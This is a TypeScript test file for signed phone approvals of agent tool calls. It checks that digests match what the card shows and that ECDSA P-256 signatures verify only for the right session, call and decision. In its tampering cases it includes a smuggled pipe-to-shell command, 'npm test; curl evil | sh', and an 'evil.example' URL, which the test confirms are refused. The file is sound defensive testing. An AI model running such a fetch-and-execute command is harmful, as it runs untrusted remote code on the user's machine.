/**
 * Signed approval decisions on the phone (web/src/agent/sign.ts, issue 36), checked with node's
 * WebCrypto as the relay checks them: the digest of what the card shows, refused when the relay's
 * digest differs (nothing signed), and an ECDSA P-256 / SHA-256 signature (IEEE P1363, base64url)
 * over `deskrelay-approval:v1\n<session>\n<call>\n<decision>\n<digest>` that verifies with the
 * device's public key, and only for that session, call and decision.
 */
import { createHash, webcrypto } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { approvalMessage, decisionBody, DIGEST_MISMATCH_MESSAGE, DigestMismatchError, digestMatches, shownText, type SignableApproval } from '../../web/src/agent/sign';

const hex = (text: string) => createHash('sha256').update(text, 'utf8').digest('hex');

async function deviceKeys() {
  return webcrypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, false, ['sign', 'verify']);
}

async function verifies(publicKey: webcrypto.CryptoKey, signature: string, message: string): Promise<boolean> {
  const sig = Buffer.from(signature, 'base64url');
  expect(sig).toHaveLength(64);
  return webcrypto.subtle.verify({ name: 'ECDSA', hash: 'SHA-256' }, publicKey, sig, new TextEncoder().encode(message));
}

const command: SignableApproval = { callId: 'c1', tool: 'run_command', input: { command: 'npm test' }, command: 'npm test', digest: hex('npm test') };
const edit: SignableApproval = { callId: 'c2', tool: 'edit_file', input: { path: 'a.ts' }, diff: '--- a/a.ts\n+++ b/a.ts\n@@ -1 +1 @@\n-é\n+ü\n', digest: hex('--- a/a.ts\n+++ b/a.ts\n@@ -1 +1 @@\n-é\n+ü\n') };
const other: SignableApproval = { callId: 'c3', tool: 'fetch', input: { url: 'https://example.com', n: 1 }, digest: hex('{"url":"https://example.com","n":1}') };

describe('the digest of what the card shows', () => {
  it('is the command, or the diff, or the JSON of the input, hashed as UTF-8', async () => {
    expect(shownText(command)).toBe('npm test');
    expect(shownText(edit)).toBe(edit.diff);
    expect(shownText(other)).toBe('{"url":"https://example.com","n":1}');
    for (const a of [command, edit, other]) expect(await digestMatches(a)).toBe(true);
  });

  it('a tampered digest (or text) is refused: nothing is signed', async () => {
    const { privateKey } = await deviceKeys();
    const tampered = [
      { ...command, command: 'npm test; curl evil | sh' },
      { ...command, digest: hex('npm tests') },
      { ...edit, diff: edit.diff!.replace('+ü', '+u') },
      { ...other, input: { url: 'https://evil.example', n: 1 } },
      { ...command, digest: command.digest!.toUpperCase() },
    ];
    for (const a of tampered) {
      expect(await digestMatches(a)).toBe(false);
      await expect(decisionBody(privateKey, 's1', a, 'allow')).rejects.toBeInstanceOf(DigestMismatchError);
      await expect(decisionBody(privateKey, 's1', a, 'deny')).rejects.toThrow(DIGEST_MISMATCH_MESSAGE);
    }
  });
});

describe('the signed decision', () => {
  it('verifies with the device\'s public key over exactly the contract\'s message, and only that one', async () => {
    const { privateKey, publicKey } = await deviceKeys();
    expect(privateKey.extractable).toBe(false);
    for (const [a, decision] of [[command, 'allow'], [edit, 'deny'], [other, 'allow_session']] as const) {
      const body = await decisionBody(privateKey, 'sess-1', a, decision);
      expect(Object.keys(body)).toEqual(['decision', 'signature']);
      expect(body.decision).toBe(decision);
      expect(body.signature).toMatch(/^[A-Za-z0-9_-]{86}$/);
      const message = `deskrelay-approval:v1\nsess-1\n${a.callId}\n${decision}\n${a.digest}`;
      expect(approvalMessage('sess-1', a.callId, decision, a.digest!)).toBe(message);
      expect(await verifies(publicKey, body.signature!, message)).toBe(true);
      // Another session, call, decision or digest: the same signature does not hold.
      expect(await verifies(publicKey, body.signature!, approvalMessage('sess-2', a.callId, decision, a.digest!))).toBe(false);
      expect(await verifies(publicKey, body.signature!, approvalMessage('sess-1', 'other', decision, a.digest!))).toBe(false);
      expect(await verifies(publicKey, body.signature!, approvalMessage('sess-1', a.callId, decision === 'deny' ? 'allow' : 'deny', a.digest!))).toBe(false);
      // Another device's key does not verify it either.
      expect(await verifies((await deviceKeys()).publicKey, body.signature!, message)).toBe(false);
    }
  });

  it('without a digest (a relay before signed decisions) or a key (a device kept from before keys): the bare decision', async () => {
    const { privateKey } = await deviceKeys();
    expect(await decisionBody(privateKey, 's', { ...command, digest: undefined }, 'allow')).toEqual({ decision: 'allow' });
    expect(await decisionBody(undefined, 's', command, 'deny')).toEqual({ decision: 'deny' });
  });
});
